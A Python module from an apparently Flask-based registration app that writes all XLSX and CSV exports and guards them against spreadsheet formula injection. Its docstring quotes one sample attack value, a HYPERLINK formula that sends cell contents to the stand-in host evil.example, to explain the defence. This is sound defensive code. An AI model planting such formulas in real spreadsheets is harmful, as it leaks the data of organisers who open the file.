"""The one export writer: every workbook (XLSX) and CSV file the app hands out is written here.

User text is written as text, never as a formula. Anyone can register, so a name such as
``=HYPERLINK("http://evil.example/?x="&B3,"王五")`` must reach the organiser's spreadsheet as
those characters: in a workbook such a value is stored as a string cell (openpyxl would
otherwise store it as a live formula); in CSV, which has no cell types, a value that starts
with ``= + - @``, a tab or a carriage return gets a leading apostrophe, as spreadsheet programs
expect, so that they show it instead of evaluating it. Characters a workbook cannot hold
(control characters) are dropped rather than failing the export. Numbers, dates and ``None``
are written as they are.

`tests/app/test_layout.py` fails when a module outside this one creates a workbook or a CSV
writer, so that no export can bypass these rules.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from flask_babel import lazy_gettext as _l
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from summit.services.core.spreadsheets import Column, header_text

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv"
# What makes a spreadsheet program read a CSV value as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _text(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def csv_value(value: Any) -> Any:
    """A value as a CSV cell: text that a spreadsheet would evaluate gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a byte-order mark, so that Excel opens Chinese text correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_value(str(h)) for h in header])
    writer.writerows([csv_value(v) for v in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


class Sheet:
    """One worksheet; `append` is the only way rows get in."""

    def __init__(self, worksheet: Worksheet) -> None:
        self.worksheet = worksheet

    def append(self, row: Sequence[Any]) -> None:
        values = [_text(v) if isinstance(v, str) else v for v in row]
        self.worksheet.append(values)
        number = self.worksheet.max_row
        for column, value in enumerate(values, start=1):
            if isinstance(value, str) and value.startswith("="):
                # Stored as a shared string: Excel shows the characters, never evaluates them.
                self.worksheet.cell(row=number, column=column).data_type = "s"

    def extend(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.append(row)

    def widths(self, widths: Sequence[float]) -> None:
        for index, width in enumerate(widths, start=1):
            self.worksheet.column_dimensions[get_column_letter(index)].width = width

    def number_format(self, column: int, fmt: str, *, first_row: int = 2,
                      last_row: int | None = None) -> None:
        """Format a column's cells (`last_row` also formats empty cells below the data)."""
        last = last_row or self.worksheet.max_row
        for number in range(first_row, last + 1):
            self.worksheet.cell(row=number, column=column).number_format = fmt


class Book:
    """A workbook of sheets; `sheet(...)` adds one with its header row."""

    def __init__(self) -> None:
        self._workbook = Workbook()
        self._unused = self._workbook.active

    def sheet(self, title: str, header: Sequence[Any] = (), *, bold: bool = False,
              freeze: bool = False) -> Sheet:
        # Excel refuses sheet titles over 31 characters or with []:*?/\ in them.
        safe = _text("".join(" " if c in "[]:*?/\\" else c for c in str(title)))[:31] or "-"
        sheet = Sheet(self._workbook.create_sheet(safe))
        if header:
            sheet.append([str(h) for h in header])
            if bold:
                for cell in sheet.worksheet[1]:
                    cell.font = Font(bold=True)
        if freeze:
            sheet.worksheet.freeze_panes = "A2"
        return sheet

    def save(self) -> bytes:
        if self._unused is not None and len(self._workbook.sheetnames) > 1:
            self._workbook.remove(self._unused)
            self._unused = None
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()


def table_bytes(fmt: str, title: str, header: Sequence[Any],
                rows: Iterable[Sequence[Any]]) -> bytes:
    """One table as CSV (`fmt == "csv"`) or as a one-sheet workbook."""
    if fmt == "csv":
        return csv_bytes(header, rows)
    book = Book()
    book.sheet(title, header).extend(rows)
    return book.save()


def import_template(title: str, columns: Sequence[Column], example: dict[str, str],
                    allowed: dict[str, str]) -> bytes:
    """The workbook people fill in for an import: the columns (text-formatted, so leading
    zeros and 18-digit ID numbers survive), one example row, and a help sheet."""
    book = Book()
    sheet = book.sheet(title, [header_text(column) for column in columns])
    sheet.widths([column.width for column in columns])
    for index in range(1, len(columns) + 1):
        sheet.number_format(index, "@", last_row=501)
    sheet.append([example.get(column.key, "") for column in columns])
    help_sheet = book.sheet("help", (_l("Column"), _l("Required"), _l("Allowed values")))
    for column in columns:
        help_sheet.append([header_text(column), "✓" if column.required else "",
                           allowed.get(column.key, "")])
    return book.save()
